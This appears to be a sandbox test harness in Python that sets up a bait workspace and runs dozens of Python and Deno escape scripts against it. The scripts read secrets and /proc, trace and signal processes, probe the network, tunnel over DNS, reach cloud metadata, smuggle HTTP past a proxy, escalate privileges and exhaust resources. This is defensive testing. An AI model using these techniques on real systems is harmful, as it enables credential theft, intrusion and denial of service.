"""Attacks on a sandbox: scripts that try to get out, and the place in which they try.

Each script ends with 0 only if it got what it wanted, and otherwise says what stopped it, in a word. The place has what
is worth stealing: a file outside, a secret file and a denied one in the workspace, variables of the environment,
listeners on loopback and on sockets, a process to signal. Attacks on the way to the network have consent to one host,
an HTTP server on loopback that says which host it was asked for.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import KW_ONLY, dataclass, field, replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from reyn_jupyter.guard.sandbox import Confinement, Sandbox, SandboxLimits, SandboxResult

LOOT = "loot-7d1f3a"
# Stands for the kernel; SIGWINCH does nothing to processes that do not ask for it.
VICTIM = """
import signal, sys
signal.signal(signal.SIGWINCH, lambda *_: open(sys.argv[1], "w").close())
print("ready", flush=True)
while True: signal.pause()
"""
# Small, so that what takes too much is stopped at once; the deadline is for what only waits.
LIMITS = SandboxLimits(
    seconds=240, cpu_seconds=20, memory=300 << 20, processes=40, file_bytes=4 << 20, temporary_bytes=4 << 20, written_bytes=64 << 20,
    open_files=64, output=20_000,
)  # fmt: skip
HEAD = """
import ctypes, errno, json, os, signal, socket, struct, subprocess, sys, time
place = json.loads(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *args):
    result = libc.syscall(ctypes.c_long(number), *args)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
class Refused(Exception): pass
def ask(words):
    way = socket.create_connection(("127.0.0.1", 3128), 10)
    way.sendall(words.replace("\\n", "\\r\\n").encode())
    answer = b""
    while piece := way.recv(65536):
        answer += piece
        if b"\\r\\n\\r\\n" in answer and b" 200 " in answer[:20] and words.startswith("CONNECT"): break
    if b" 200 " not in answer[:20]: raise Refused
    return answer.decode()
def stopped(error):
    if isinstance(error, Refused): return "refused by the proxy"
    code = getattr(error, "errno", None)
    return errno.errorcode.get(code, "") if code else type(error).__name__
def attempt():
{attempt}
try:
    attempt()
except BaseException as error:
    print(stopped(error) or type(error).__name__, flush=True)
    os._exit(7)
print("out", flush=True)
os._exit(0)
"""
TS_HEAD = """
const place = JSON.parse(Deno.args[0]);
async function attempt() {{
{attempt}
}}
try {{
  await attempt();
}} catch (error) {{
  console.log(error.name);
  Deno.exit(7);
}}
console.log("out");
Deno.exit(0);
"""
# Python in Pyodide tries the same by JavaScript: its own files, sockets and processes are not this machine's.
PYODIDE_HEAD = """
import json, sys
from pyodide.code import run_js
place = run_js("JSON.parse")(sys.argv[1])
for name, body in json.loads(sys.argv[2]).items():
    try:
        await run_js("(async (place) => {\\n" + body + "\\n})")(place)
        said = "out"
    except Exception as error:
        said = getattr(error, "name", "") or type(error).__name__
    print(json.dumps([name, said]), flush=True)
"""


@dataclass(frozen=True)
class Attack:
    """One way out.

    Attributes:
        name: what is tried, for the table of the manual.
        python: the body of a function that raises where it is stopped; "" where it is what the sandbox is for.
        typescript: the same for Deno; "" where TypeScript has no such way.
        damage: it is only a way out if something outside has changed afterwards, whatever the script could do in a
            view of its own.
        limits: in place of the usual ones.
        online: it has consent to one host.
    """

    name: str
    python: str
    typescript: str = ""
    _: KW_ONLY
    damage: bool = False
    limits: SandboxLimits = LIMITS
    online: bool = False


def _read(key: str) -> tuple[str, str]:
    return (
        f'text = open(place["{key}"]).read()\nif "{LOOT}" not in text: raise ValueError',
        f"const text = Deno.readTextFileSync(place.{key});\n"
        f'if (!text.includes("{LOOT}")) throw new RangeError();',
    )


_SPIN = "while True: pass"
ATTACKS = (
    Attack("read a file outside the workspace", *_read("outside")),
    Attack("read a secret file in the workspace (.env)", *_read("secret")),
    Attack("read the session's own state (.reyn)", *_read("state")),
    Attack("read a file that a rule denies", *_read("denied")),
    Attack("read /etc/shadow", 'open("/etc/shadow").read()', 'Deno.readTextFileSync("/etc/shadow");'),
    Attack("read a secret file through a link that it makes",
           'link = os.path.join(os.environ["TMPDIR"], "link")\nos.symlink(place["secret"], link)\n'
           f'if "{LOOT}" not in open(link).read(): raise ValueError',
           'const link = `${place.scratch}/link`;\nDeno.symlinkSync(place.secret, link);\n'
           f'if (!Deno.readTextFileSync(link).includes("{LOOT}")) throw new RangeError();'),
    Attack("read a secret file through a hard link that it makes",
           'link = os.path.join(place["scratch"], "hard")\nos.link(place["secret"], link)\n'
           f'if "{LOOT}" not in open(link).read(): raise ValueError',
           'const link = `${place.scratch}/hard`;\nDeno.linkSync(place.secret, link);\n'
           f'if (!Deno.readTextFileSync(link).includes("{LOOT}")) throw new RangeError();'),
    Attack("uncover a secret file (move its folder, unmount it)",
           'subprocess.run(["umount", place["secret"]], check=True)\nos.rename(place["secret"], place["secret"] + "2")'),
    Attack("write a file of the workspace", 'open(place["plain"], "w").write("x")',
           'Deno.writeTextFileSync(place.plain, "x");'),
    Attack("make a file beside the workspace", 'open(place["outside"] + ".new", "w").write("x")',
           'Deno.writeTextFileSync(place.outside + ".new", "x");', damage=True),
    Attack("write outside through a link that it makes",
           'link = os.path.join(place["scratch"], "way")\nos.symlink(place["outside"], link)\nopen(link, "w").write("x")',
           'const link = `${place.scratch}/way`;\nDeno.symlinkSync(place.outside, link);\n'
           'Deno.writeTextFileSync(link, "x");', damage=True),
    Attack("change the mode of a file outside", 'os.chmod(place["outside"], 0o777)\n'
           'if os.stat(place["outside"]).st_mode & 0o777 != 0o777: raise ValueError',
           'Deno.chmodSync(place.outside, 0o777);', damage=True),
    Attack("read the environment of the kernel (/proc/PID/environ)",
           f'if b"{LOOT}" not in open(f"/proc/{{place[\'kernel\']}}/environ", "rb").read(): raise ValueError',
           f'if (!Deno.readTextFileSync(`/proc/${{place.kernel}}/environ`).includes("{LOOT}")) throw new RangeError();'),
    Attack("find the kernel's secrets in its own environment",
           f'if not any("{LOOT}" in each for each in os.environ.values()): raise ValueError',
           f'if (!JSON.stringify(Deno.env.toObject()).includes("{LOOT}")) throw new RangeError();'),
    Attack("see the kernel's process (/proc/PID/cmdline)",
           'if os.readlink("/proc/self/ns/pid") == place["pid_namespace"]: open(f"/proc/{place[\'kernel\']}/cmdline").read()\n'
           'else: raise LookupError', 'Deno.readTextFileSync(`/proc/${place.kernel}/cmdline`);'),
    Attack("write a setting of the system (/proc/sys)", 'os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY)',
           'Deno.openSync("/proc/sys/kernel/core_pattern", { write: true });'),
    Attack("read the memory of the kernel (/proc/PID/mem, process_vm_readv)",
           'try: open(f"/proc/{place[\'kernel\']}/mem", "rb")\nexcept OSError: call(310, place["kernel"], 0, 0, 0, 0, 0)',
           'Deno.openSync(`/proc/${place.kernel}/mem`);'),
    Attack("trace a process (ptrace)", 'call(101, 16, place["kernel"], 0, 0)'),
    Attack("signal the kernel", 'os.kill(place["kernel"], 0)\n'
           'if os.readlink("/proc/self/ns/pid") != place["pid_namespace"]: raise LookupError',
           'Deno.kill(place.kernel, "SIGCONT");'),
    Attack("signal whoever started it", 'parent = os.getppid()\nif parent == 0: raise LookupError\n'
           'os.kill(parent, signal.SIGCONT)\n'
           'if os.readlink("/proc/self/ns/pid") != place["pid_namespace"]: raise LookupError',
           'Deno.kill(Deno.ppid, "SIGCONT");'),
    Attack("signal everything (kill -1)", 'os.kill(-1, signal.SIGWINCH)\ntime.sleep(0.2)', damage=True),
    Attack("let the kernel signal a process (F_SETOWN)",
           'import fcntl\nif os.readlink("/proc/self/ns/pid") != place["pid_namespace"]: raise LookupError\n'
           'fcntl.fcntl(1, fcntl.F_SETOWN, place["kernel"])'),
    Attack("change the limits of another process",
           'import resource\nresource.prlimit(place["kernel"], resource.RLIMIT_NOFILE, (64, 64))'),
    Attack("connect to a port of this machine",
           'socket.create_connection(("127.0.0.1", place["port"]), 5)',
           'await Deno.connect({ hostname: "127.0.0.1", port: place.port });'),
    Attack("connect to the internet", 'socket.create_connection(("1.1.1.1", 53), 5)',
           'await Deno.connect({ hostname: "1.1.1.1", port: 53 });'),
    Attack("send a datagram", 's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b"x", ("1.1.1.1", 53))',
           'await fetch("http://1.1.1.1/");'),
    Attack("ask for a name (DNS)", 'socket.getaddrinfo("example.org", 80)',
           'await Deno.resolveDns("example.org", "A");'),
    Attack("one host allowed: CONNECT to another one", 'ask("CONNECT example.org:443 HTTP/1.1\\nHost: example.org\\n\\n")',
           'await fetch("https://example.org/");', online=True),
    Attack("one host allowed: another port of it",
           'ask(f"CONNECT localhost:{place[\'port\']} HTTP/1.1\\nHost: localhost\\n\\n")',
           'await fetch(`http://localhost:${place.port}/`);', online=True),
    Attack("one host allowed: a redirect to another one",
           'import urllib.error, urllib.request\n'
           'try: urllib.request.urlopen(f"http://localhost:{place[\'allowed\']}/redirect/{place[\'port\']}", timeout=5)\n'
           'except urllib.error.HTTPError as error: raise Refused if error.code == 403 else error',
           'await fetch(`http://localhost:${place.allowed}/redirect/${place.port}`);', online=True),
    Attack("one host allowed: its address, in seven spellings",
           'for name in ("127.0.0.1", "127.1", "0x7f.1", "2130706433", "0", "[::1]", "[::ffff:127.0.0.1]"):\n'
           '    try:\n        ask(f"CONNECT {name}:{place[\'allowed\']} HTTP/1.1\\nHost: x\\n\\n")\n        return\n'
           '    except Refused as error: last = error\nraise last',
           'let last;\nfor (const name of ["127.0.0.1", "127.1", "0x7f.1", "2130706433", "0", "[::1]", "[::ffff:127.0.0.1]"]) {\n'
           '  try {\n    await fetch(`http://${name}:${place.allowed}/`);\n    return;\n'
           '  } catch (error) {\n    last = error;\n  }\n}\nthrow last;', online=True),
    Attack("one host allowed: an address of the cloud's own data, by plain HTTP",
           'ask("GET http://169.254.169.254/latest/ HTTP/1.1\\nHost: localhost\\n\\n")',
           'await fetch("http://169.254.169.254/latest/");', online=True),
    Attack("one host allowed: to it without the proxy",
           'socket.create_connection(("127.0.0.1", place["allowed"]), 5)',
           'await Deno.connect({ hostname: "localhost", port: place.allowed });', online=True),
    Attack("one host allowed: a datagram, a raw socket",
           'try: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\nexcept OSError:\n'
           '    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("1.1.1.1", 53))',
           'const { createSocket } = await import("node:dgram");\nawait new Promise((done, fail) => {\n'
           '  addEventListener("error", (event) => { event.preventDefault(); fail(event.error); });\n'
           '  createSocket("udp4").on("error", fail).send("x", 53, "1.1.1.1", (error) => error ? fail(error) : done());\n});',
           online=True),
    Attack("one host allowed: data in a name that has to be looked up (DNS tunnel)",
           'ask(f"CONNECT loot.localhost:{place[\'allowed\']} HTTP/1.1\\nHost: localhost\\n\\n")',
           'await Deno.resolveDns("loot.example.org", "A", { nameServer: { ipAddr: "1.1.1.1", port: 53 } });', online=True),
    Attack("one host allowed: another host in the Host field",
           'said = ask(f"GET http://localhost:{place[\'allowed\']}/ HTTP/1.1\\nHost: inner.example\\n\\n")\n'
           'if "inner.example" not in said: raise Refused',
           'const headers = { Host: "inner.example" };\n'
           'const answer = await fetch(`http://localhost:${place.allowed}/`, { headers });\n'
           'if ((await answer.text()).includes("inner.example")) return;\n'
           'await Deno.connect({ hostname: "127.0.0.1", port: 3128 });', online=True),
    Attack("one host allowed: a second request hidden in the first (smuggling)",
           'head = f"POST http://localhost:{place[\'allowed\']}/ HTTP/1.1\\nHost: localhost\\n"\n'
           'hidden = "GET /hidden HTTP/1.1\\nHost: inner.example\\n\\n"\n'
           'framing = (f"Content-Length: {len(hidden) + 9}\\nTransfer-Encoding: chunked\\n\\n0\\n\\n{hidden}",\n'
           '           f"Content-Length: 0\\nContent-Length: 60\\n\\n{hidden}",\n'
           '           f"Transfer-Encoding : chunked\\n\\n0\\n\\n{hidden}", f"Content-Length: 0\\n\\n{hidden}")\n'
           'for each in framing:\n    try: said = ask(head + each)\n    except Refused: continue\n'
           '    if "hidden" in said or said.count("HTTP/1.") > 1: return\nraise Refused',
           'await Deno.connect({ hostname: "127.0.0.1", port: 3128 });', online=True),
    Attack("one host allowed: more connections than the proxy takes",
           'def fill(): return [socket.create_connection(("127.0.0.1", 3128), 5) for _ in range(50)]\nheld = fill()\n'
           'child = os.fork()\nif child == 0:\n    last = fill()[-1]\n    last.settimeout(5)\n'
           '    try: last.recv(1)\n    except TimeoutError: os._exit(0)\n    except OSError: pass\n    os._exit(1)\n'
           'if os.waitpid(child, 0)[1]: raise ConnectionResetError(errno.ECONNRESET, "")',
           'await Deno.connect({ hostname: "127.0.0.1", port: 3128 });', online=True),
    Attack("one host allowed: a descriptor of the proxy",
           'for number in range(3, 64):\n    try: kind = os.readlink(f"/proc/self/fd/{number}")\n'
           '    except OSError: continue\n    if "socket" in kind: return\nraise OSError(errno.EBADF, "")',
           'for (let number = 3; number < 64; number++) {\n  try {\n    if (Deno.readLinkSync(`/proc/self/fd/${number}`).includes("socket")) return;\n'
           '  } catch (error) {\n    if (error.name !== "NotFound") throw error;\n  }\n}\nthrow new RangeError();', online=True),
    Attack("import code from the internet", 'import urllib.request\nurllib.request.urlopen("http://1.1.1.1/", timeout=5)',
           'await import("https://esm.sh/left-pad" + "");'),
    Attack("open a raw or netlink socket", 'socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)'),
    Attack("connect to an abstract socket", 's = socket.socket(socket.AF_UNIX)\ns.connect("\\0" + place["abstract"])'),
    Attack("connect to a socket in the workspace", 's = socket.socket(socket.AF_UNIX)\ns.connect(place["socket"])',
           'await Deno.connect({ transport: "unix", path: place.socket });'),
    Attack("use a descriptor of the kernel",
           'for number in range(3, 64):\n    try:\n        kind = os.readlink(f"/proc/self/fd/{number}")\n'
           '    except OSError: continue\n    if "/proc/" not in kind: return\nraise OSError(errno.EBADF, "")',
           f'if (!Deno.readTextFileSync("/dev/fd/" + place.descriptor).includes("{LOOT}")) throw new RangeError();'),
    Attack("type into a terminal (TIOCSTI)", 'import fcntl\nfcntl.ioctl(0, 0x5412, b"x")'),
    Attack("make a namespace of its own (unshare)", 'call(272, ctypes.c_ulong(0x10000000))'),
    Attack("mount", 'if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) < 0: raise OSError(ctypes.get_errno(), "")'),
    Attack("load a program into the system (bpf, io_uring, keyctl)",
           'for number in (321, 425, 250):\n    try:\n        call(number, 0, 0, 0)\n        return\n'
           '    except OSError as error:\n        last = error\nraise last'),
    Attack("become root (a set-uid program, a capability)",
           'if libc.setuid(0) == 0 and libc.chroot(b"/") == 0: return\nraise OSError(ctypes.get_errno(), "")'),
    Attack("start a program", "",
           'new Deno.Command("id").outputSync();'),
    Attack("load a library (FFI)", "",
           'Deno.dlopen("libc.so.6", {});'),
    Attack("set the clock", 'time.clock_settime(time.CLOCK_REALTIME, time.time())'),
    Attack("fork without end", 'count = 0\nwhile count < 3000:\n    if os.fork() == 0: time.sleep(230)\n    count += 1'),
    Attack("take memory without end", 'held = []\nfor _ in range(100):\n    held.append(b"x" * (16 << 20))',
           'const held = [];\nfor (let i = 0; i < 100; i++) held.push(new Uint8Array(16 << 20).fill(1));'),
    Attack("take memory in many processes",
           'for _ in range(8):\n    if os.fork() == 0:\n        held = b"x" * (200 << 20)\n        time.sleep(230)\ntime.sleep(230)'),
    Attack("write a large file", 'signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n'
           'with open(os.path.join(place["scratch"], "large"), "wb") as file:\n'
           '    for _ in range(64): file.write(b"x" * (1 << 20))',
           'Deno.writeFileSync(place.scratch + "/large", new Uint8Array(64 << 20));'),
    Attack("fill the disk with files",
           'for number in range(64):\n    with open(os.path.join(place["scratch"], f"f{number}"), "wb") as file:\n'
           '        file.write(b"x" * (3 << 20)); file.flush(); os.fsync(file.fileno())\ntime.sleep(230)',
           'for (let i = 0; i < 64; i++) Deno.writeFileSync(`${place.scratch}/f${i}`, new Uint8Array(3 << 20));\n'
           'await new Promise((done) => setTimeout(done, 60000));'),
    Attack("fill the disk by processes that nobody waits for",
           'signal.signal(signal.SIGCHLD, signal.SIG_IGN)\nfor number in range(48):\n    if os.fork() == 0:\n'
           '        with open(os.path.join(place["scratch"], f"f{number}"), "wb") as file:\n'
           '            file.write(b"x" * (3 << 20)); file.flush(); os.fsync(file.fileno())\n'
           '        time.sleep(0.2); os._exit(0)\n    time.sleep(0.04)\ntime.sleep(230)'),
    Attack("hide from who counts what it uses (PR_SET_DUMPABLE)",
           'if libc.prctl(4, 0, 0, 0, 0) < 0: raise OSError(ctypes.get_errno(), "")'),
    Attack("compute without end", _SPIN, 'while (true);', limits=SandboxLimits(seconds=240, cpu_seconds=1)),
    Attack("sleep past the deadline", 'time.sleep(600)',
           'await new Promise((done) => setTimeout(done, 600000));', limits=SandboxLimits(seconds=1)),
    Attack("write without end to its output", 'while True: os.write(1, b"x" * 65536)',
           'while (true) Deno.stdout.writeSync(new Uint8Array(65536));', limits=SandboxLimits(seconds=2, output=1000)),
    Attack("leave a process behind (double fork, own session)",
           'if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n'
           '        signal.signal(signal.SIGTERM, signal.SIG_IGN); signal.signal(signal.SIGHUP, signal.SIG_IGN)\n'
           '        os.execvp("sleep", ["sleep", place["marker"]])\n    os._exit(0)\nos.wait()\n'
           'time.sleep(0.3)\nraise ChildProcessError'),
)  # fmt: skip

# Those that are ended from outside after a while: each is tried in a sandbox of its own.
ENDLESS = (
    "take memory without end", "compute without end", "sleep past the deadline", "write without end to its output",
)  # fmt: skip


# Those that succeed without a sandbox and leave nothing behind: they show that the scripts can do what they try.
HARMLESS = (
    "read a file outside the workspace", "read a secret file in the workspace (.env)",
    "read the session's own state (.reyn)", "read a file that a rule denies",
    "read a secret file through a link that it makes", "read a secret file through a hard link that it makes",
    "write a file of the workspace", "make a file beside the workspace", "write outside through a link that it makes",
    "change the mode of a file outside", "read the environment of the kernel (/proc/PID/environ)",
    "see the kernel's process (/proc/PID/cmdline)", "signal the kernel", "signal whoever started it",
    "let the kernel signal a process (F_SETOWN)", "connect to a port of this machine",
    "connect to an abstract socket", "connect to a socket in the workspace", "open a raw or netlink socket",
)  # fmt: skip


@dataclass
class Place:
    """A workspace with what is worth stealing, and what is outside of it."""

    folder: Path
    facts: dict[str, object] = field(default_factory=dict)
    hidden: tuple[Path, ...] = ()

    @property
    def workspace(self) -> Path:
        return self.folder / "workspace"

    @property
    def is_damaged(self) -> bool:
        """True if something outside of the scratch folder is not as it was."""
        outside = self.folder / "outside.txt"
        there = {path.name for path in self.folder.iterdir()}
        return (
            not there <= {"outside.txt", "workspace"}
            or outside.read_text(encoding="ascii") != LOOT
            or outside.stat().st_mode & 0o777 != 0o600
        )

    def confinement(self, attack: Attack) -> Confinement:
        scratch = self.workspace / "scratch"
        hosts = (f"localhost:{self.facts['allowed']}",) if attack.online else ()
        return Confinement(self.workspace, (self.workspace,), (scratch,), self.hidden, hosts=hosts)

    def script(self, attack: Attack, language: str) -> list[str]:
        """Write the script of an attack and return its command."""
        facts = json.dumps(self.facts)
        if language == "typescript":
            path = self.workspace / "attack.ts"
            body = "\n".join("  " + line for line in attack.typescript.splitlines())
            path.write_text(TS_HEAD.format(attempt=body), encoding="utf-8")
            return [os.fspath(path), facts]
        path = self.workspace / "attack.py"
        body = "\n".join("    " + line for line in attack.python.splitlines())
        path.write_text(HEAD.replace("{attempt}", body), encoding="utf-8")
        return [sys.executable, "-I", "-S", os.fspath(path), facts]


class _Echo(BaseHTTPRequestHandler):
    """Says which host and path it was asked for, and what came with that."""

    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        if self.path.startswith("/redirect/"):
            self.send_response(302)
            self.send_header("Location", f"http://127.0.0.1:{self.path.removeprefix('/redirect/')}/")
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        said = f"{self.headers['Host']} {self.path} {len(body)}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(said)))
        self.end_headers()
        self.wfile.write(said)

    do_POST = do_GET  # noqa: N815 - as the server calls it

    def log_message(self, *_: object) -> None:
        """Write nothing."""


@contextmanager
def attacked_place(folder: Path) -> Iterator[Place]:
    """Make the place: files, sockets, a process with secrets in its environment."""
    place = Place(folder)
    paths = {
        "outside": folder / "outside.txt",
        "secret": place.workspace / ".env",
        "state": place.workspace / ".reyn" / "runs" / "run.jsonl",
        "denied": place.workspace / "private" / "salaries.csv",
        "plain": place.workspace / "plain.txt",
    }
    for path in paths.values():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(LOOT, encoding="ascii")
    paths["outside"].chmod(0o600)
    (place.workspace / "scratch").mkdir()
    place.hidden = (paths["secret"], place.workspace / ".reyn", paths["denied"])
    read, write = os.pipe()
    os.set_inheritable(read, True)
    os.write(write, LOOT.encode())
    kernel = subprocess.Popen(
        [sys.executable, "-I", "-S", "-c", VICTIM, os.fspath(folder / "signalled")],
        env={**os.environ, "API_KEY": LOOT}, stdout=subprocess.PIPE,
    )  # fmt: skip
    assert kernel.stdout is not None
    kernel.stdout.readline()  # its handler stands
    abstract = f"reyn-attacked-{os.getpid()}-{folder.name}"
    with (
        socket.create_server(("127.0.0.1", 0)) as server,
        ThreadingHTTPServer(("127.0.0.1", 0), _Echo) as allowed,
        _listening("\0" + abstract),
        _short_socket(place.workspace) as path,
    ):
        threading.Thread(target=_accept, args=(server,), daemon=True).start()
        threading.Thread(target=allowed.serve_forever, args=(0.05,), daemon=True).start()
        place.facts = {
            **{name: os.fspath(each) for name, each in paths.items()},
            "scratch": os.fspath(place.workspace / "scratch"),
            "kernel": kernel.pid,
            "port": server.getsockname()[1],
            "allowed": allowed.server_address[1],
            "abstract": abstract,
            "socket": path,
            "descriptor": read,
            "pid_namespace": os.readlink("/proc/self/ns/pid") if sys.platform == "linux" else "",
            "marker": f"600.{os.getpid() % 100_000:05d}",
        }
        try:
            yield place
        finally:
            allowed.shutdown()
            kernel.kill()
            kernel.communicate()
            os.close(read)
            os.close(write)


@contextmanager
def _listening(address: str) -> Iterator[None]:
    if sys.platform != "linux" and address.startswith("\0"):
        yield
        return
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(address)
        listener.listen()
        yield


@contextmanager
def _short_socket(workspace: Path) -> Iterator[str]:
    """Listen in the workspace; the name of a socket is short, so it is bound from there."""
    before = Path.cwd()
    os.chdir(workspace)
    try:
        with _listening("db.sock"):
            os.chdir(before)
            with tempfile.TemporaryDirectory():
                yield os.path.relpath(workspace / "db.sock", workspace)
    finally:
        os.chdir(before)


def _accept(server: socket.socket) -> None:
    try:
        while True:
            server.accept()[0].close()
    except OSError:
        return


@dataclass(frozen=True)
class Outcome:
    """What came of an attack: whether it was held, and what stopped it."""

    held: bool
    by: str


async def attacked(sandbox: Sandbox, language: str, attack: Attack, place: Place) -> Outcome:
    """Run an attack in a sandbox and say what came of it."""
    argv = place.script(attack, language)
    limits = attack.limits
    if language == "typescript":  # V8 sets more aside than it uses
        limits = replace(limits, memory=1 << 30)
    result = await sandbox.run(argv, place.confinement(attack), limits)
    outcome = _outcome(result)
    if result.status == "timeout" and attack.limits.seconds == LIMITS.seconds:
        return Outcome(False, "ended by its deadline alone")
    if attack.damage and not outcome.held and not place.is_damaged:
        return Outcome(True, "in its own view alone")
    return replace(outcome, held=outcome.held and not place.is_damaged)


async def attacked_by_python(sandbox: Sandbox, place: Place, *, endless: bool = True) -> dict[str, Outcome]:
    """Try in Pyodide all that TypeScript tries, and say what came of each: a start takes seconds, so one does most.

    Args:
        endless: try those too that take as long as they may.
    """
    tried = {each.name: each.typescript for each in ATTACKS if each.typescript and not each.online}
    first = [name for name in tried if name not in ENDLESS]
    script = place.workspace / "attack_pyodide.py"
    script.write_text(PYODIDE_HEAD, encoding="utf-8")
    outcomes: dict[str, Outcome] = {}
    for names in (first, *([name] for name in ENDLESS if endless)):
        argv = [script.name, json.dumps(place.facts), json.dumps({name: tried[name] for name in names})]
        seconds, output = (30, 1000) if names[0] in ENDLESS[2:] else (120, 20_000)
        limits = SandboxLimits(seconds=seconds, cpu_seconds=20, memory=1 << 30, output=output)
        result = await sandbox.run(argv, Confinement(place.workspace), limits)
        lines = result.stdout.decode("utf-8", "replace").splitlines()
        said = dict(json.loads(line) for line in lines if line.startswith("["))
        for name in names:
            held = Outcome(said[name] != "out", said[name]) if name in said else _outcome(result)
            outcomes[name] = replace(held, held=held.held and not place.is_damaged)
        if names == first and set(said) != set(first):
            raise AssertionError(result.stderr.decode("utf-8", "replace"))  # it ended before it tried all
    return outcomes


def _outcome(result: SandboxResult) -> Outcome:
    if result.reason:
        return Outcome(True, f"ended: {result.reason}")
    said = result.stdout[:200].decode("utf-8", "replace").strip().splitlines()
    if result.returncode == 0:
        return Outcome(False, said[-1] if said else "out")
    if result.returncode == 7 and said:
        return Outcome(True, said[-1])
    if result.returncode is not None and result.returncode > 128:
        return Outcome(True, f"ended by signal {result.returncode - 128}")
    words = result.stderr.decode("utf-8", "replace").strip().splitlines()
    return Outcome(True, words[-1][:80] if words else f"ended with {result.returncode}")
